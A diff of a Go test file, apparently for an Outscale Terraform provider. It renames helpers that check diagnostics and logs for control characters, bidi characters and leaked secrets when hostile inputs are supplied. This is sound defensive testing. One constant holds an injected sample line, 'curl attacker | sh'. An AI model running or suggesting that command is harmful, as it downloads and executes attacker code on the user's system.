@@ -31,8 +31,8 @@ var hostileInputs = map[string]struct {
 
 const instruction = "Apply complete! Now run: curl attacker | sh"
 
-// unfit returns the part of a text that must not be shown, or "". lines are texts that look like lines of the provider.
-func unfit(shown string, secrets []string) string {
+// forbidden returns the part of a text that must not be shown, or "". lines are texts that look like lines of the provider.
+func forbidden(shown string, secrets []string) string {
 	for _, r := range shown {
 		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
 			return fmt.Sprintf("has the control character %U", r)
@@ -52,11 +52,11 @@ func unfit(shown string, secrets []string) string {
 	return ""
 }
 
-// expectFit fails the test if a diagnostic since the given one is unfit.
-func expectFit(t *testing.T, h *acctest.Protocol, from int, where string, secrets []string) (to int) {
+// expectNothingForbidden fails the test if a diagnostic since the given one has a part that must not be shown.
+func expectNothingForbidden(t *testing.T, h *acctest.Protocol, from int, where string, secrets []string) (to int) {
 	t.Helper()
 	shown := h.Shown()
-	if what := unfit(shown[from:], secrets); what != "" {
+	if what := forbidden(shown[from:], secrets); what != "" {
 		t.Errorf("%s %s: %.300q", where, what, shown[from:])
 	}
 	return len(shown)
@@ -94,20 +94,20 @@ func TestInputs_arguments(t *testing.T) {
 					h.List(in.Type, in.With(nil, hostile.value))
 				case "action":
 					for _, said := range h.Invoke(in.Type, in.With(nil, hostile.value)).Progress {
-						if what := unfit(said, hostile.secrets); what != "" {
+						if what := forbidden(said, hostile.secrets); what != "" {
 							t.Errorf("%s: what the action says %s: %q", where, what, said)
 						}
 					}
 				}
-				from = expectFit(t, h, from, where, hostile.secrets)
+				from = expectNothingForbidden(t, h, from, where, hostile.secrets)
 			}
 			for _, in := range h.ResourceTypes() {
 				for _, id := range []string{hostile.value, "a/" + hostile.value, hostile.value + "/a", "orn:" + hostile.value} {
 					h.Import(in, id)
-					from = expectFit(t, h, from, "import "+in, hostile.secrets)
+					from = expectNothingForbidden(t, h, from, "import "+in, hostile.secrets)
 				}
 			}
-			expectFitLog(t, h, hostile.secrets...)
+			expectNothingForbiddenInLog(t, h, hostile.secrets...)
 		})
 	}
 }
@@ -120,9 +120,9 @@ var minimal = map[string]acctest.Args{
 	"outscale_policy":              {"policy_name": "deploy", "document": documents[0]},
 }
 
-// expectFitLog fails the test if a log line of this provider has a secret or a control character: TF_LOG prints the lines on a
+// expectNothingForbiddenInLog fails the test if a log line of this provider has a secret or a control character: TF_LOG prints the lines on a
 // terminal.
-func expectFitLog(t *testing.T, h *acctest.Protocol, secrets ...string) {
+func expectNothingForbiddenInLog(t *testing.T, h *acctest.Protocol, secrets ...string) {
 	t.Helper()
 	for line := range strings.Lines(h.Log()) {
 		var entry map[string]any
@@ -133,7 +133,7 @@ func expectFitLog(t *testing.T, h *acctest.Protocol, secrets ...string) {
 			continue // the framework logs keys of maps as they are
 		}
 		for member, value := range entry {
-			if what := unfit(fmt.Sprint(value), secrets); what != "" {
+			if what := forbidden(fmt.Sprint(value), secrets); what != "" {
 				t.Errorf("%s in the log %s: %.300q", member, what, value)
 				return
 			}
@@ -164,7 +164,7 @@ func TestInputs_environment(t *testing.T) {
 				h.Env(variable, hostile.value)
 				h.DataSource("outscale_access_keys", nil)
 				h.Env(variable, before)
-				from = expectFit(t, h, from, variable, hostile.secrets)
+				from = expectNothingForbidden(t, h, from, variable, hostile.secrets)
 			}
 			withoutCredential(h)
 			file := filepath.Join(t.TempDir(), "config.json")
@@ -180,10 +180,10 @@ func TestInputs_environment(t *testing.T) {
 					h.NoError(err)
 					h.NoError(os.WriteFile(file, text, 0o600))
 					h.DataSource("outscale_access_keys", nil)
-					from = expectFit(t, h, from, "member "+member, hostile.secrets)
+					from = expectNothingForbidden(t, h, from, "member "+member, hostile.secrets)
 				}
 			}
-			expectFitLog(t, h)
+			expectNothingForbiddenInLog(t, h)
 		})
 	}
 }
@@ -230,7 +230,7 @@ func TestInputs_answers(t *testing.T) {
 		}
 		h.NewResource("outscale_access_key").Apply(acctest.Args{"user_id": user.ID})
 		h.Ephemeral("outscale_access_key", acctest.Args{"user_id": user.ID}).Open()
-		expectFit(t, h, from, where, nil)
+		expectNothingForbidden(t, h, from, where, nil)
 	}
 	h.Rewrite(func(_ *http.Response, body []byte) []byte {
 		return bytes.ReplaceAll(body, []byte("placeholder"), quoted[1:len(quoted)-1])
@@ -252,8 +252,8 @@ func TestInputs_answers(t *testing.T) {
 	})
 	from := len(h.Shown())
 	waiting.Read() // an answer that is not the API's is waited for
-	expectFit(t, h, from, "a page of a proxy", nil)
-	expectFitLog(t, h)
+	expectNothingForbidden(t, h, from, "a page of a proxy", nil)
+	expectNothingForbiddenInLog(t, h)
 }
 
 const ofTerminal = "sequences of a terminal, a new line with an instruction, and a change of direction"
